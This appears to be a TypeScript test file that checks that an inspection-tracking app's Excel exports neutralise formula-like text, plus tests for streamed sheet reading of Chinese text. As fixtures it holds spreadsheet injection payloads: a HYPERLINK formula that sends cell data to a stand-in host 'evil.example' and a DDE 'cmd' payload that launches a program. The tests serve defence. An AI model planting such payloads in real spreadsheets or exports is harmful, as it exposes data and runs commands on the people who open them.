import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, json, validTip, type TestApp } from './test/helpers.ts';
import { readCell, sheetRows } from './xlsx.ts';

// Issue 7 fault 10: text starting with = + - @ (or tab/CR) went into exports verbatim, so a reporter's
// "=HYPERLINK(…)" became a live formula in the clerk's Excel. Every export now writes it as text.
const LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情") 有人上门推销保健品，说能治高血压';

describe('Excel exports keep formula-like text as text', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t.close());

  const cells = async (payload: Buffer) => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(payload as unknown as ArrayBuffer);
    const out: unknown[] = [];
    book.worksheets[0].eachRow((row) => row.eachCell((c) => void out.push(c.value)));
    return out;
  };

  it('in the tip list', async () => {
    expect((await t.app.inject({ method: 'POST', url: '/api/public/tips', payload: validTip({ description: LINK }) })).statusCode).toBe(201);
    const res = await t.app.inject({ method: 'GET', url: `/api/tips/export?q=${encodeURIComponent('evil.example')}`, headers: { cookie: await t.login('lk_intake') } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['x-export-rows']).toBe('1');
    const values = await cells(res.rawPayload);
    expect(values).toContain(`'${LINK.slice(0, 80)}`);
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
    expect(values.filter((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toEqual([]);
  });

  it('in the hazard ledger', async () => {
    const cookie = await t.login('lk_market_regulation');
    const subject = await t.app.inject({ method: 'POST', url: '/api/subjects', headers: { cookie: await t.login('lk_intake') }, payload: { regionCode: '370681', kind: 'elderly_care_institution', name: '龙口市康乐颐养中心' } });
    expect(subject.statusCode).toBe(201);
    const dangerous = ['+1+cmd|" /C calc"!A0 向老人收取会员费', '-2+3 预收床位费', '@SUM(1+1) 虚假宣传', '\t=1+1 隐患', '\r=1+1 隐患'];
    const inspection = await t.app.inject({
      method: 'POST', url: `/api/subjects/${json(subject).id}/inspections`, headers: { cookie },
      payload: {
        inspectedOn: new Date().toISOString().slice(0, 10), inspectors: 2, checklist: {}, findings: '现场检查',
        hazards: dangerous.map((description) => ({ description, category: 'prepaid', serious: false, measure: 'rectification_order', deadline: new Date(Date.now() + 10 * 86400_000).toISOString().slice(0, 10), responsible: '=院长 王某' })),
      },
    });
    expect(inspection.statusCode).toBe(201);
    const res = await t.app.inject({ method: 'GET', url: '/api/hazards/export', headers: { cookie: await t.login('lk_lead') } });
    expect(res.statusCode).toBe(200);
    const values = await cells(res.rawPayload);
    // The schema trims a leading tab or CR away; what remains starts with = and is neutralised too.
    for (const d of dangerous) expect(values).toContain(`'${d.trim()}`);
    expect(values).toContain("'=院长 王某");
    expect(values.filter((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toEqual([]);
  });
});

// ExcelJS's stream reader decoded each 16 KB chunk on its own: a character split between two chunks
// came back as “��” (bench/import lost 2 region names in 50,000 rows). sheetRows decodes across chunks.
describe('reading a large sheet as a stream', () => {
  // Chinese text of varying lengths (1–3 ASCII digits shift every row), so that chunk boundaries
  // fall inside characters many times over, in the shared strings and in inline strings.
  const texts = Array.from({ length: 6000 }, (_, i) => `龙口市东莱街道第${i}号颐养院·${'养'.repeat(i % 7)}`);
  const garbled = (rows: string[]) => rows.filter((t, i) => t !== texts[i]);

  it('keeps every multi-byte character whole, with shared strings and with inline strings', async () => {
    const shared = new ExcelJS.Workbook();
    const sheet = shared.addWorksheet('数据');
    shared.addWorksheet('说明').addRow(['前面的工作表']);
    for (const t of texts) sheet.addRow([t, 7]);
    const inline = new PassThrough();
    const parts: Buffer[] = [];
    inline.on('data', (c: Buffer) => parts.push(c));
    const writer = new ExcelJS.stream.xlsx.WorkbookWriter({ stream: inline, useSharedStrings: false });
    const ws = writer.addWorksheet('数据');
    for (const t of texts) ws.addRow([t, 7]).commit();
    ws.commit();
    await writer.commit();
    for (const [name, file] of [['shared strings', Buffer.from(await shared.xlsx.writeBuffer())], ['inline strings', Buffer.concat(parts)]] as const) {
      const rows: string[] = [];
      for await (const { n, row } of sheetRows(file, '数据', { maxUnpacked: 100 * 1024 * 1024, tooLarge: '过大' })) {
        expect(n, name).toBe(rows.length + 1);
        rows.push(readCell(row.getCell(1)).text);
      }
      expect(rows.length, name).toBe(texts.length);
      expect(garbled(rows), name).toEqual([]);
    }
  });

  it('refuses a file that is not a workbook, and a workbook without the sheet', async () => {
    const read = async (file: Buffer, sheet: string) => {
      for await (const _ of sheetRows(file, sheet, { maxUnpacked: 1024 * 1024, tooLarge: '过大' })) void _;
    };
    await expect(read(Buffer.from('not a zip at all'), '数据')).rejects.toMatchObject({ code: 'IMPORT_INVALID' });
    const book = new ExcelJS.Workbook();
    book.addWorksheet('别的').addRow(['a']);
    await expect(read(Buffer.from(await book.xlsx.writeBuffer()), '数据')).rejects.toMatchObject({ code: 'IMPORT_INVALID' });
  });
});
